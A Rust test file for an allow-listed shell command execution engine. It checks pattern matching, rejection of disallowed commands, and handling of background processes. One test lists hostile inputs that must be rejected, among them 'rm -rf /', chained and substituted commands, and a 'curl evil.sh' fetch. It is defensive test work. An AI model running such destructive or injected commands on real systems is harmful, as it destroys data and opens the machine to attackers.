//! Allow-listed command execution through the public API.

#![cfg(unix)]

use std::path::Path;
use std::time::Duration;

use tokio_util::sync::CancellationToken;

use helm::command::{AllowlistConfig, CommandExecutionEngine, EngineConfig};
use helm::error::HelmError;

fn engine(patterns: &[&str]) -> CommandExecutionEngine {
    CommandExecutionEngine::new(EngineConfig {
        allowlist: AllowlistConfig::from_patterns(patterns).unwrap(),
        timeout: Duration::from_secs(10),
        ..EngineConfig::default()
    })
}

#[test]
fn allowlist_accepts_only_matching_lines() {
    let allowlist = AllowlistConfig::from_patterns(["npm *", "pwd"]).unwrap();

    assert!(allowlist.validate("npm install"));
    assert!(allowlist.validate("npm run build --prod"));
    assert!(allowlist.validate("pwd"));
    assert!(!allowlist.validate("pwd -P"));
    assert!(!allowlist.validate("rm -rf /"));
    assert!(!allowlist.validate("npm install; rm -rf /"));
    assert!(!allowlist.validate("npm install && curl evil.sh"));
    assert!(!allowlist.validate("npm $(whoami)"));
}

#[tokio::test]
async fn pwd_reports_the_working_directory() {
    let output = engine(&["pwd"])
        .execute("pwd", Path::new("/tmp"), &CancellationToken::new())
        .await
        .unwrap();

    assert_eq!(output.exit_code, Some(0));
    assert!(output.stdout.contains("/tmp"));
}

#[tokio::test]
async fn rejected_lines_never_spawn() {
    let engine = engine(&["pwd"]);
    let err = engine
        .execute("whoami", Path::new("/tmp"), &CancellationToken::new())
        .await
        .unwrap_err();

    assert!(matches!(err, HelmError::CommandNotAllowed(line) if line == "whoami"));
    assert!(engine.running().is_empty());
}

#[tokio::test]
async fn background_process_can_be_fed_and_reaped() {
    let engine = engine(&["cat"]);
    let handle = engine.spawn("cat", Path::new("/tmp")).unwrap();
    let pid = handle.pid();
    assert!(engine.is_running(pid));

    engine.send_input(pid, "hello").await.unwrap();
    engine.close_input(pid).await.unwrap();
    let output = engine.wait(handle, &CancellationToken::new()).await.unwrap();

    assert_eq!(output.stdout, "hello\n");
    assert!(output.success());
    assert!(!engine.is_running(pid));
}

#[tokio::test]
async fn terminating_a_finished_process_reports_not_found() {
    let engine = engine(&["true"]);
    let output = engine
        .execute("true", Path::new("/tmp"), &CancellationToken::new())
        .await
        .unwrap();

    for _ in 0..2 {
        let err = engine.terminate(output.pid).unwrap_err();
        assert!(matches!(err, HelmError::ProcessNotFound(pid) if pid == output.pid));
    }
}
